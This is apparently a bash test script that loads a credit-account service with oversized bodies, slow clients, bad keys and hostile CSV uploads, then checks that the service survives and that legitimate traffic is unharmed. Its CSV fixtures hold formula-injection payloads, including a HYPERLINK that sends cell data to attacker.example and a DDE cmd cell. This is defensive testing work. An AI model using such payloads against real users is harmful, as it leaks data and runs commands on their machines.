#!/usr/bin/env bash
# The adversarial check (issue 15, item 8): the packaged jar at -Xmx256m with
# -XX:+ExitOnOutOfMemoryError, as in the container, on a throwaway PostgreSQL 15, taking for
# DURATION seconds, all at once (checks/adversarial.py):
#   item 1  waves of 4 MB JSON bodies with junk keys and with distributor A's valid key, slow bodies
#           (one byte every 3 s, declared length and chunked) and slow headers;
#   item 2  a flood of malformed and well-shaped unknown keys from one address;
#   item 3  A's hostile CSV uploads: a number of 1,000,000 digits, a record over 64 KiB, cells over
#           their limits, 20 MiB of unique documents, more uploads than A may have waiting or running;
#   item 5  formula cells, then the errors CSV as a spreadsheet user downloads it;
# while distributor B, with its own keys, keeps calling: eligibility, status batches of new
# customers, holds captured with Idempotency-Key (some replayed), and an honest 20,000-row import.
# Then asserts: the same process is alive and ready, no OutOfMemoryError; B got only the answers
# its calls expect (never a 5xx), within bounds (p50/p99 printed), and lost nothing (its import
# COMPLETED with every row in PostgreSQL, every batch's customers and every hold and capture
# stored); each attack got the answers api.md documents.
# Exits non-zero on the first failed assertion; always stops what it started and deletes its files.
#
# Usage: ./mvnw -B package -DskipTests && bash checks/adversarial.sh
# Env:   JAR (default target/quarkus-app/quarkus-run.jar), HEAP (256m), DURATION (60 seconds of attack),
#        B_IMPORT_ROWS (20000), BIG_MIB (20), MAX_P50 / MAX_P99 (seconds, 2 / 9: B's calls, per kind),
#        MAX_SECONDS (any one of B's calls, 15),
#        PG_BIN (/usr/lib/postgresql/15/bin), PG_PORT, APP_PORT (free ports)
set -euo pipefail

cd "$(dirname "$0")/.."
source bench/ports.sh
PG_BIN=${PG_BIN:-/usr/lib/postgresql/15/bin}
PG_PORT=${PG_PORT:-$(free_port)}
APP_PORT=${APP_PORT:-$(free_port)}
JAR=${JAR:-target/quarkus-app/quarkus-run.jar}
HEAP=${HEAP:-256m}
DURATION=${DURATION:-60}
B_IMPORT_ROWS=${B_IMPORT_ROWS:-20000}
BIG_MIB=${BIG_MIB:-20}
MAX_P50=${MAX_P50:-2}
MAX_P99=${MAX_P99:-9}
MAX_SECONDS=${MAX_SECONDS:-15}
ADMIN_KEY="avk_adversarial_$(od -An -N16 -tx1 /dev/urandom | tr -d ' \n')"
DB_PASSWORD="pw_$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
BASE="http://127.0.0.1:${APP_PORT}"
A=adv-a
B=adv-b

WORK=$(mktemp -d /tmp/aval-adversarial.XXXXXX)
chmod 755 "$WORK"
APP_PID=""

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*"; }
fail() { log "FAIL: $*"; exit 1; }
pass() { log "ok:   $*"; }
pg() { runuser -u postgres -- "$@"; }
sql() { "$PG_BIN/psql" -h 127.0.0.1 -p "$PG_PORT" -U postgres -d aval -v ON_ERROR_STOP=1 -qtA -c "$1"; }

cleanup() {
  local rc=$?
  if [[ -n "$APP_PID" ]] && kill -0 "$APP_PID" 2>/dev/null; then
    kill -TERM "$APP_PID" 2>/dev/null || true
    for _ in $(seq 1 60); do kill -0 "$APP_PID" 2>/dev/null || break; sleep 0.5; done
    kill -KILL "$APP_PID" 2>/dev/null || true
  fi
  if [[ -f "$WORK/data/postmaster.pid" ]]; then
    pg "$PG_BIN/pg_ctl" -D "$WORK/data" -m immediate stop >/dev/null 2>&1 || true
  fi
  if [[ $rc -ne 0 ]]; then
    log "--- last lines of the application log ---"
    tail -n 40 "$WORK/app.log" 2>/dev/null || true
  fi
  rm -rf "$WORK"
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

[[ -f "$JAR" ]] || fail "$JAR not found: run ./mvnw -B package -DskipTests first"
if [[ ! -x "$PG_BIN/initdb" ]]; then
  log "PostgreSQL 15 not found in $PG_BIN: installing it"
  apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq postgresql-15 >/dev/null
fi
command -v python3 >/dev/null || fail "python3 is required"

# --- the files ---------------------------------------------------------------------------------------
python3 - "$WORK" "$BIG_MIB" "$B_IMPORT_ROWS" <<'PY'
import csv, sys
work, big_mib, b_rows = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
HEADER = "documentType,document,email,creditLimit,tolerance\n"
def cpf(n):
    base = "%09d" % n
    def digit(s, w):
        r = sum(int(c) * (w - i) for i, c in enumerate(s)) % 11
        return 0 if r < 2 else 11 - r
    d1 = digit(base, 10)
    return base + str(d1) + str(digit(base + str(d1), 11))
def write(name, text):
    with open(f"{work}/{name}", "w", newline="") as f:
        f.write(text)
# item 3: a number cell of a million digits (its line passes 64 KiB: the file fails unparsed)
write("million.csv", HEADER + "CPF,%s,a@example.com,%s,0.1\n" % (cpf(100000001), "9" * 1_000_000))
# item 3: one record over 64 KiB, its line breaks inside a quoted cell
write("longline.csv", HEADER + 'CPF,%s,"%s",10,0.1\n' % (cpf(100000002), ("y" * 999 + "\n") * 70))
# items 3 and 5: cells over their limits, formula cells, and one good row
rows = [
    ["CPF", cpf(100000003), "n1@example.com", "1" * 300, "0.1"],          # a number over 24 characters
    ["CPF", cpf(100000004), "n2@example.com", "2" * 5000, "0.1"],         # a cell over 320 characters
    ["CPF", cpf(100000005), "n3@example.com", "10.00", "0." + "0" * 40 + "1"],
    ['=HYPERLINK("http://attacker.example/?d="&B2,"open")', "+5511999999999", "@SUM(1+1)", "-2+3", "=1+1"],
    ["CPF", "=cmd|' /C calc'!A0", "-x@example.com", "+10", "@0.1"],
    ["CPF", cpf(100000006), "good@example.com", "100.00", "0.1"],
]
with open(f"{work}/cells.csv", "w", newline="") as f:
    f.write(HEADER)
    csv.writer(f, lineterminator="\n").writerows(rows)
write("tiny.csv", HEADER + "CPF,%s,t@example.com,10.00,0.1\n" % cpf(100000007))
# item 3: unique alphanumeric documents (no numeric packing helps), big and smaller
alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
def doc(i):
    s = []
    for _ in range(16):
        i, r = divmod(i, 36)
        s.append(alphabet[r])
    return "".join(reversed(s))
for name, mib in (("unique-big.csv", big_mib), ("unique-small.csv", 4)):
    with open(f"{work}/{name}", "w", newline="") as f:
        size, i = f.write(HEADER), 36 ** 10
        while True:
            line = "OTHER,%s,c%d@x.co,%d.%02d,\n" % (doc(i), i % 100000, 10 + i % 900, i % 100)
            if size + len(line) > mib * 1024 * 1024:
                break
            size += f.write(line)
            i += 7919
# B's honest import
with open(f"{work}/b-import.csv", "w", newline="") as f:
    f.write(HEADER)
    for i in range(b_rows):
        f.write("CPF,%s,cliente%d@example.com.br,%d.%02d,0.%04d\n" % (cpf(200000000 + i * 7), i, 1000 + i % 5000, i % 100, i % 10000))
PY
log "files written: $(du -sh "$WORK" | cut -f1)"

# --- PostgreSQL and the service ----------------------------------------------------------------------
chown postgres "$WORK"
printf '%s\n' "$DB_PASSWORD" > "$WORK/pwfile"
chown postgres "$WORK/pwfile"
pg "$PG_BIN/initdb" -D "$WORK/data" -U postgres --pwfile="$WORK/pwfile" --auth-local=trust --auth-host=trust >/dev/null
pg "$PG_BIN/pg_ctl" -D "$WORK/data" -l "$WORK/pg.log" -w -t 30 \
  -o "-p $PG_PORT -k $WORK -c listen_addresses=127.0.0.1 -c fsync=off" start >/dev/null
pg "$PG_BIN/createdb" -h "$WORK" -p "$PG_PORT" -U postgres aval
log "PostgreSQL 15 on 127.0.0.1:$PG_PORT"

QUARKUS_HTTP_PORT="$APP_PORT" \
QUARKUS_DATASOURCE_REACTIVE_URL="postgresql://127.0.0.1:${PG_PORT}/aval" \
QUARKUS_DATASOURCE_JDBC_URL="jdbc:postgresql://127.0.0.1:${PG_PORT}/aval" \
QUARKUS_DATASOURCE_USERNAME=postgres QUARKUS_DATASOURCE_PASSWORD="$DB_PASSWORD" \
AVAL_ADMIN_API_KEY="$ADMIN_KEY" AVAL_HTTP_TRUSTED_PROXIES=127.0.0.1 \
  java -Xmx"$HEAP" -XX:+ExitOnOutOfMemoryError -jar "$JAR" > "$WORK/app.log" 2>&1 &
APP_PID=$!
for _ in $(seq 1 240); do
  curl -sf -o /dev/null --max-time 3 "$BASE/q/health/ready" && break
  kill -0 "$APP_PID" 2>/dev/null || fail "the application exited"
  sleep 0.5
done
curl -sf -o /dev/null "$BASE/q/health/ready" || fail "not ready within 120 s"
log "application pid $APP_PID on port $APP_PORT (-Xmx$HEAP)"

api() { curl -sf -X "$1" "$BASE$2" -H "Authorization: Bearer $3" -H 'Content-Type: application/json' ${4:+-d "$4"}; }
key_of() { sed -E 's/.*"key":"([^"]+)".*/\1/'; }
for d in "$A" "$B"; do api PUT "/v1/distributors/$d" "$ADMIN_KEY" "{\"name\":\"$d\"}" >/dev/null; done
A_KEY=$(api POST "/v1/distributors/$A/api-keys" "$ADMIN_KEY" '{"name":"hostile","role":"INTEGRATION"}' | key_of)
B_KEY=$(api POST "/v1/distributors/$B/api-keys" "$ADMIN_KEY" '{"name":"shop","role":"INTEGRATION"}' | key_of)
B_DOC=52998224725
api PUT "/v1/distributors/$B/customers/$B_DOC/status" "$B_KEY" '{"status":"APV"}' >/dev/null
B_ACCOUNT=$(api POST "/v1/distributors/$B/credit-accounts" "$B_KEY" \
  "{\"document\":\"$B_DOC\",\"email\":\"shop@example.com\",\"creditLimit\":100000000.00}" | sed -E 's/.*"id":"([^"]+)".*/\1/')
pass "ready; distributors $A (the attacker's key) and $B (normal traffic) with their keys, B's account $B_ACCOUNT"

# --- the storm ---------------------------------------------------------------------------------------
cat > "$WORK/config.json" <<JSON
{"base": "$BASE", "duration": $DURATION,
 "a": {"id": "$A", "key": "$A_KEY"},
 "b": {"id": "$B", "key": "$B_KEY", "account": "$B_ACCOUNT", "document": "$B_DOC"},
 "files": {"million": "$WORK/million.csv", "longline": "$WORK/longline.csv", "cells": "$WORK/cells.csv",
           "unique_big": "$WORK/unique-big.csv", "unique_small": "$WORK/unique-small.csv",
           "tiny": "$WORK/tiny.csv", "b_import": "$WORK/b-import.csv"}}
JSON
log "${DURATION} s of attacks beside B's normal traffic, then the imports finish"
python3 checks/adversarial.py "$WORK/config.json" "$WORK/result.json"
R="$WORK/result.json"
# check <python expression over r (the result)> <message>: fails the check when false
check() { python3 -c "import json,sys; r = json.load(open(sys.argv[1])); sys.exit(0 if ($1) else 1)" "$R" || fail "$2"; }
show() { python3 -c "import json,sys; r = json.load(open(sys.argv[1])); print($1)" "$R"; }

# --- the process -------------------------------------------------------------------------------------
kill -0 "$APP_PID" 2>/dev/null || fail "the application process $APP_PID is gone"
ready=$(curl -s --max-time 5 "$BASE/q/health/ready" || true)
[[ "$ready" == *'"status": "UP"'* || "$ready" == *'"status":"UP"'* ]] || fail "/q/health/ready is not UP: $ready"
if grep -q "OutOfMemoryError" "$WORK/app.log"; then fail "OutOfMemoryError in the log"; fi
check "not r['errors']" "the traffic itself went wrong: $(show "r['errors']")"
pass "the same process ($APP_PID) is alive and ready, no OutOfMemoryError; attacks lasted $(show "r['storm_seconds']") s, the whole run $(show "r['seconds']") s"

# --- B's normal traffic -------------------------------------------------------------------------------
log "B's calls: kind: count, answers, p50 / p99 / max seconds"
show "'\n'.join('  %-16s %5d  %-28s %s / %s / %s' % (k, n['count'], json.dumps(n['statuses']), n['p50'], n['p99'], n['max']) for k, n in r['normal'].items())"
check "all(not n['unexpected'] for n in r['normal'].values())" \
  "B got answers its calls do not expect: $(show "{k: n['unexpected'][:3] for k, n in r['normal'].items() if n['unexpected']}")"
check "all(r['normal'][k]['count'] > 0 for k in ('eligibility', 'status batch', 'hold', 'capture', 'hold replayed', 'import upload'))" \
  "some kind of B's calls never ran: $(show "sorted(r['normal'])")"
pass "B: only expected answers, never a 5xx"

import_id=$(show "r['b']['import_id']")
check "r['b']['import'] and r['b']['import']['status'] == 'COMPLETED' and r['b']['import']['createdCount'] == $B_IMPORT_ROWS and r['b']['import']['failedCount'] == 0" \
  "B's import did not complete with every row: $(show "r['b']['import']")"
opened=$(sql "select count(*) from credit_statement_entry e join credit_account a on a.id = e.account_id where a.distributor_id = '$B' and e.type = 'OPENED' and e.reference = 'import:$import_id'")
accounts=$(sql "select count(*) from credit_account where distributor_id = '$B'")
[[ "$opened" == "$B_IMPORT_ROWS" && "$accounts" == $((B_IMPORT_ROWS + 1)) ]] \
  || fail "B's import: $opened accounts opened by it, $accounts in all (expected $B_IMPORT_ROWS and $((B_IMPORT_ROWS + 1)))"
pass "B's import COMPLETED in $(show "round(r['b']['import_seconds'])") s: $opened accounts opened, each row once"

customers=$(sql "select count(*) from customer where distributor_id = '$B' and status = 'APV' and status_reason = 'adversarial check'")
[[ "$customers" == "$(show "r['b']['batch_documents_applied']")" ]] \
  || fail "B's status batches: $(show "r['b']['batch_documents_applied']") customers APPLIED, $customers in PostgreSQL"
read -r holds captured < <(sql "select count(*), count(*) filter (where status = 'CAPTURED') from credit_hold where account_id = '$B_ACCOUNT'" | tr '|' ' ')
[[ "$holds" == "$(show "r['b']['holds_placed']")" && "$captured" == "$(show "r['b']['holds_captured']")" ]] \
  || fail "B's holds: $(show "r['b']['holds_placed']") placed and $(show "r['b']['holds_captured']") captured, PostgreSQL has $holds and $captured"
check "r['b']['replays'] > 0 and r['b']['replays'] == r['b']['replays_same']" \
  "a replayed hold was not the first answer: $(show "r['b']")"
pass "B lost nothing: $customers customers from its batches, $holds holds ($captured captured), $(show "r['b']['replays']") retries replayed the first answer"

# --- the attacks --------------------------------------------------------------------------------------
log "attacks: answers counted"
show "'\n'.join('  %-34s %s' % (k, json.dumps(v)) for k, v in r['attacks'].items())"
# every body with a junk key refused on its headers: never read (400/413), never a 5xx
check "set(r['attacks']['junk-key bodies']) <= {'401', '429', 'closed', 'timeout-or-reset'} and r['attacks']['junk-key bodies'].get('401', 0) + r['attacks']['junk-key bodies'].get('429', 0) > 0" \
  "junk-key bodies: $(show "r['attacks']['junk-key bodies']")"
# A's own bodies: malformed JSON (400), or past A's share of the body budget (503), never a 500
# (the answer is read while the body is sent: the server answers 503 and closes the connection)
check "set(r['attacks']['valid-key bodies (A)']) <= {'400', '503', 'closed', 'timeout-or-reset'}" \
  "A's bodies: $(show "r['attacks']['valid-key bodies (A)']")"
# A's slow bodies: two hold A's share (until the 10 s request deadline), the others are refused
check "'503' in r['attacks']['slow bodies, declared length (A)'] and all(s not in ('500', 'connect-failed') for k in r['attacks'] if k.startswith('slow') for s in r['attacks'][k])" \
  "slow clients: $(show "{k: v for k, v in r['attacks'].items() if k.startswith('slow')}")"
check "set(r['attacks']['bad keys from one address']) <= {'401', '429'} and r['attacks']['bad keys from one address'].get('429', 0) > 0 and r['attacks']['bad keys: 429 without Retry-After'] == 0" \
  "bad keys from one address: $(show "r['attacks']['bad keys from one address']")"
# every refusal waits 0.25 s: 40 connections cannot get more than 4 answers a second each
check "sum(r['attacks']['bad keys from one address'].values()) <= 40 * 4 * r['storm_seconds'] * 1.1" \
  "bad keys answered faster than 4 a second per connection: $(show "r['attacks']['bad keys from one address']") in $(show "r['storm_seconds']") s"
pass "item 1: junk-key bodies refused unread, A's bodies 400 or 503 (its share of the budget), slow ones too; item 2: bad keys 401 then 429 + Retry-After, each answered 0.25 s late"

a() { show "r['a_imports']$1"; }
check "r['a_imports']['million-digit number']['job']['status'] == 'FAILED' and '64 KiB' in r['a_imports']['million-digit number']['job']['failureReason']" \
  "a number of a million digits: $(a "['million-digit number']")"
check "r['a_imports']['record over 64 KiB']['job']['status'] == 'FAILED' and '64 KiB' in r['a_imports']['record over 64 KiB']['job']['failureReason']" \
  "a record over 64 KiB: $(a "['record over 64 KiB']")"
cells=$(a "['cells over limits and formulas']['job']")
check "(lambda j: j['status'] == 'COMPLETED' and j['failedCount'] == 5 and j['createdCount'] == 1)(r['a_imports']['cells over limits and formulas']['job'])" \
  "cells over limits and formulas: $cells"
check "(lambda e: [(x['line'], sorted(f['field'] for f in x['errors'])) for x in e][:3] == [(2, ['creditLimit']), (3, ['creditLimit']), (4, ['tolerance'])] and any('320' in f['message'] for f in e[1]['errors']) and len(e) == 5)(r['a_imports']['cells over limits and formulas']['errors'])" \
  "the row errors are not the cells over their limits: $(a "['cells over limits and formulas']['errors']")"
pass "item 3: a 1,000,000-digit number and a record over 64 KiB FAILED the file ('$(a "['record over 64 KiB']['job']['failureReason']")'); cells over 24/320 characters are row errors, the good row created"

check "(lambda c: c['status'] == 200 and c['content-type'].startswith('text/csv') and c['content-disposition'].startswith('attachment'))(r['a_imports']['cells over limits and formulas']['csv'])" \
  "the errors CSV is not a text/csv attachment: $(a "['cells over limits and formulas']['csv']")"
check "all(cell == '' or cell[0] not in '=+-@\t\r' for row in r['a_imports']['cells over limits and formulas']['csv']['rows'] for cell in row)" \
  "a cell of the errors CSV would run as a formula: $(a "['cells over limits and formulas']['csv']['rows']")"
check "(lambda rows: rows[4][:5] == ['\'=HYPERLINK(\"http://attacker.example/?d=\"&B2,\"open\")', '\'+5511999999999', '\'@SUM(1+1)', '\'-2+3', '\'=1+1'] and rows[5][1:5] == ['\'=cmd|\' /C calc\'!A0', '\'-x@example.com', '\'+10', '\'@0.1'])(r['a_imports']['cells over limits and formulas']['csv']['rows'])" \
  "formula cells are not each prefixed with ': $(a "['cells over limits and formulas']['csv']['rows'][4:]")"
pass "item 5: the errors CSV is an attachment, every formula cell starts with '"

check "(lambda q: q[-1]['status'] == 429 and q[-1]['code'] == 'IMPORT_QUEUE_FULL' and q[-1]['retry-after'] == '30' and q[-1]['imports before'] == q[-1]['imports after'])(r['a_imports']['queue full']['attempts'])" \
  "more than 3 uploads: $(a "['queue full']")"
for job in "unique documents (big)" "unique documents (2nd)" "unique documents (3rd)"; do
  check "(lambda j: j['status'] == 'COMPLETED' and j['failedCount'] == 0 and j['processedRows'] == j['totalRows'])(r['a_imports']['$job']['job'])" \
    "$job: $(a "['$job']")"
done
pass "item 3: a 4th upload while 3 wait or run: 429 IMPORT_QUEUE_FULL, Retry-After 30, nothing created; $BIG_MIB MiB of unique documents ($(a "['unique documents (big)']['job']['totalRows']") rows) COMPLETED at -Xmx$HEAP"

# timing last, and generous: this machine's 2 cores are shared (a 6 s p99 was seen at load 19)
# (the upload is one call, exempt from the request deadline: only MAX_SECONDS bounds it)
check "all((k == 'import upload' or n['p50'] <= $MAX_P50 and n['p99'] <= $MAX_P99) and n['max'] <= $MAX_SECONDS for k, n in r['normal'].items())" \
  "B's calls were too slow (a p50 over $MAX_P50 s, a p99 over $MAX_P99 s or one call over $MAX_SECONDS s)"
pass "B's latencies: every p50 within $MAX_P50 s, every p99 within $MAX_P99 s (load average now $(cut -d' ' -f1 /proc/loadavg))"

kill -0 "$APP_PID" 2>/dev/null || fail "the application process is gone"
curl -sf -o /dev/null "$BASE/q/health/ready" || fail "not ready at the end"
log "PASS"
